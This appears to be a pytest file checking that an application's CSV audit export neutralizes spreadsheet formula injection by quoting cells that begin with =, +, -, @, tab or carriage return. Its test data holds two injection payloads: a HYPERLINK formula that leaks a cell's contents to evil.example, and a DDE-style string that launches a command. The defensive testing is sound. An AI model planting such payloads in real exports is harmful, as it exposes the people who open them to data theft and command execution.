"""CSV export cells a spreadsheet would run as a formula are neutralized (OWASP "CSV
Injection"): a single quote before a cell beginning with =, +, -, @, TAB or CR."""

from __future__ import annotations

import csv
import io
import json

from tests.api.conftest import make_key
from tests.lifecycle.support import roster
from tests.scim.support import Scim

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
EXTERNAL_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_exported_csv_cell_begins_like_a_formula(client, db, tenant, database_url):
    """A SCIM client chooses the request id (X-Request-ID ``-2-3``, which a spreadsheet
    computes as -5), a display name like ``=HYPERLINK(...)`` and an external id like
    ``@SUM(...)``: in the API's and the CLI's CSV export the request id reads ``'-2-3``,
    no cell begins like a formula, and the external id is there, in the record's data (a
    JSON cell, which begins with ``{``), unchanged."""
    scim = Scim(client, tenant)
    created = scim.request("POST", "/Users", json={
        "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"],
        "userName": "mallory@acme.example", "displayName": HYPERLINK,
        "externalId": EXTERNAL_ID}, headers={"X-Request-ID": "-2-3"})
    assert created.status_code == 201, created.get_json()
    auditor = make_key(db, "auditor", tenant.org).headers
    api = client.get("/api/v1/audit/export?format=csv", headers=auditor)
    assert api.status_code == 200
    cli = roster(database_url, "audit", "export", "--format", "csv", "--org", "acme").output
    for text in (api.get_data(as_text=True), cli):
        rows = _rows(text)
        mine = [r for r in rows if r["subject_id"] == created.get_json()["id"]]
        assert mine
        assert {r["request_id"] for r in mine} == {"'-2-3"}
        created_row = next(r for r in mine if r["action"] == "user:create")
        assert json.loads(created_row["data"])["externalId"] == EXTERNAL_ID
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
            json.loads(row["data"])  # still JSON: it begins with {
    # The JSON Lines export keeps every value as stored (its hashes cover them).
    jsonl = client.get("/api/v1/audit/export?format=jsonl", headers=auditor)
    assert "-2-3" in {json.loads(line)["request_id"]
                      for line in jsonl.get_data(as_text=True).splitlines()}


def test_csv_cell_neutralizes_each_formula_start():
    """Each of OWASP's six starts gets the quote; other text, numbers and None do not."""
    from app.audit.export import csv_cell

    for start in FORMULA_STARTS:
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(HYPERLINK) == "'" + HYPERLINK
    assert csv_cell("user:create") == "user:create"
    assert csv_cell(-5) == -5
    assert csv_cell(None) == ""
